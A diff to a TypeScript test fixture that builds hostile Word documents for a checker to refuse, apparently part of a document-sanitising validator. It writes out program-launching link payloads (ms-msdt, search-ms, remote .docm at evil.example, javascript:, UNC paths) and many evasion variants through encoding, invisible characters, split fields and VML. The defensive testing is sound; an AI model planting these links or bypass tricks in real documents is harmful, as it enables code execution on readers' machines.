@@ -36,6 +36,27 @@ const utf16 = (text: string, bigEndian = false) => {
   return bigEndian ? bytes.swap16() : bytes;
 };
 
+/** Links that start a program or script, in schemes of many kinds. */
+const programLinks = [
+  'ms-msdt:/id x',
+  'search-ms:query=x',
+  'search:query=x',
+  'ms-word:ofe|u|https://evil.example/x.docm',
+  'ms-excel:x',
+  'onenote:x',
+  'jnlp:https://evil.example/x',
+  'javascript:alert(1)',
+  'vbscript:x',
+  'data:text/html,x',
+  'shell:startup',
+  'mhtml:https://evil.example/x',
+  'telnet://host',
+  'steam://run/1',
+  'x-unknown:x',
+  'com.example.app:x',
+];
+const vmlShapes = ['shape', 'group', 'rect', 'roundrect', 'oval', 'line', 'polyline', 'arc', 'curve', 'image'];
+
 /** Templates and other content that is fetched, written so that a check could overlook it. */
 const fetched: [name: string, bytes: Buffer][] = [
   ['an external template', withSettings(template(remote))],
@@ -99,7 +120,26 @@ const fetched: [name: string, bytes: Buffer][] = [
     withPart('word/settings.xml', wordPart('settings', '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>')),
   ],
   ['a link that runs a script', related('hyperlink', 'java&#9;script:alert(1)')],
-  ['a link that starts a program', related('hyperlink', 'ms-msdt:/id x')],
+  ...programLinks.map((target): (typeof fetched)[number] => [`a link to ${target}`, related('hyperlink', target)]),
+  ['a link in the package that starts a program', related('hyperlink', 'onenote:x', '')],
+  ['a link that starts a program, percent-encoded', related('hyperlink', 'ms%2Dmsdt%3A/id')],
+  ['a link that starts a program, after an invisible character', related('hyperlink', '&#x200b;ms-msdt:/id')],
+  ['a link that starts a program, after a prefix of Windows', related('hyperlink', 'url:ms-msdt:/id')],
+  ['a link to a folder of Windows', related('hyperlink', '::{26EE0668-A00A-44D7-9371-BEB064C98683}')],
+  ['a link to a page in the address', related('hyperlink', 'about:&lt;script>')],
+  ...vmlShapes.map((shape): (typeof fetched)[number] => [
+    `a link in VML that starts a program: ${shape}`,
+    withBody(inRun(`<w:pict><v:${shape} href="ms-msdt:/id x"/></w:pict>`)),
+  ]),
+  ['a link in VML that runs a script', withBody(inRun('<w:pict><v:shape href="java&#10;script:x"/></w:pict>'))],
+  [
+    'a link in VML after one with a prefix',
+    withBody(inRun('<w:pict><v:shape o:href="#top" href="search-ms:query=x"/></w:pict>')),
+  ],
+  [
+    'an image in VML after one with a prefix',
+    withBody(inRun('<w:pict><v:imagedata o:src="x.png" src="\\\\host\\x.png"/></w:pict>')),
+  ],
 ];
 
 /** Programs and embedded documents. */
@@ -251,8 +291,55 @@ const fields: [name: string, bytes: Buffer][] = [
   ['a text with a very long name', withField(` INCLUDETEXT "C:\\\\${'x'.repeat(5000)}"`)],
 ];
 
+/** `HYPERLINK` with such a target. */
+const links: [name: string, bytes: Buffer][] = [
+  ...programLinks.flatMap((target): typeof links => [
+    [`a link by a field to ${target}`, withField(` HYPERLINK "${target}" `)],
+    [
+      `a link by a simple field to ${target}`,
+      withBody(`<w:fldSimple w:instr=" HYPERLINK &quot;${target}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`),
+    ],
+  ]),
+  ['a link over runs', withField(' HYPER', 'LINK "ms', '-msdt:', '/id x" ')],
+  ['a link in another case', withField(' Hyperlink "MS-MSDT:/id"')],
+  ['a link without quotation marks', withField(' HYPERLINK ms-msdt:/id')],
+  ['a link in other quotation marks', withField(' HYPERLINK “ms-msdt:/id”')],
+  ['a link in unknown quotation marks', withField(' HYPERLINK «ms-msdt:/id»')],
+  ['a link without space', withField(' HYPERLINK"ms-msdt:/id"')],
+  ['a link with a backslash in its scheme', withField(' HYPERLINK "ms-ms\\dt:/id"')],
+  ['a link with an invisible character in its scheme', withField(' HYPERLINK "ms-\u200bmsdt:/id"')],
+  ['a link after other switches', withField(' HYPERLINK \\n \\m \\t "_blank" "ms-msdt:/id"')],
+  ['a link after its tip', withField(' HYPERLINK \\o "tip" "ms-msdt:/id"')],
+  ['a link after its bookmark', withField(' HYPERLINK \\l a "ms-msdt:/id"')],
+  ['a link after a tip without text', withField(' HYPERLINK \\o \\l "ms-msdt:/id"')],
+  ['a link after a switch in quotation marks', withField(' HYPERLINK "\\o" "ms-msdt:/id"')],
+  ['a link after a switch in capitals', withField(' HYPERLINK \\O "ms-msdt:/id"')],
+  ['a link after a tip with other marks', withField(' HYPERLINK \\o "a” \\o "ms-msdt:/id"')],
+  ['a link after a tip with a mark inside', withField(' HYPERLINK \\o "a\\" \\o "ms-msdt:/id"')],
+  ['a link after a tab', withBody(field(code('HYPERLINK') + inRun('<w:tab/>') + code('ms-msdt:/id')))],
+  ['a link after a tip and a tab', withBody(field(code('HYPERLINK \\o x') + inRun('<w:tab/>') + code('ms-msdt:/id')))],
+  ['a link as a text', withBody(mark('begin'), run('HYPERLINK ms-msdt:/id'), mark('separate'), mark('end'))],
+  [
+    'a link in the result of another field',
+    withBody(mark('begin'), code(' TOC '), mark('separate'), field(code(' HYPERLINK ms-msdt:/id')), mark('end')),
+  ],
+  ['a simple field after a code with another prefix', withBody('<w:fldSimple x:instr="PAGE" w:instr="DDE x"/>')],
+  [
+    'the scheme of a link from another field',
+    withBody(field(code(' HYPERLINK "ms-') + field(code('QUOTE x')) + code('"'))),
+  ],
+  ['a link with a very long target', withField(` HYPERLINK "https://evil.example/${'x'.repeat(5000)}"`)],
+  ['a text on the web, with a backslash in its scheme', withField(' INCLUDETEXT "ht\\tp://evil.example/x"')],
+  [
+    'a text on the web, after a tab',
+    withBody(field(code('INCLUDETEXT') + inRun('<w:tab/>') + code('https://evil.example/x'))),
+  ],
+];
+
 /** Documents that programs could read differently from each other, or that exceed a limit. */
 const unclear: [name: string, bytes: Buffer][] = [
+  ['the target of a link from another field', withBody(field(code(' HYPERLINK ') + field(code('QUOTE x'))))],
+  ['two types of a mark', withBody(inRun('<w:fldChar w:fldCharType="begin" w14:fldCharType="end"/>'))],
   ['names that differ in case only', withPart('WORD/document.xml', wordPart('document', ''))],
   ['names that differ in encoding only', withPart('word/%64ocument.xml', wordPart('document', ''))],
   ['two lists of content types', withPart('[content_types].xml', contentTypesPart())],
@@ -300,4 +387,4 @@ function withOtherLocalName(): Buffer {
 }
 
 /** Word documents that are refused, with the ways in which they could pass a check. */
-export const hostileDocuments = { fetched, embedded, fields, unclear };
+export const hostileDocuments = { fetched, embedded, fields, links, unclear };
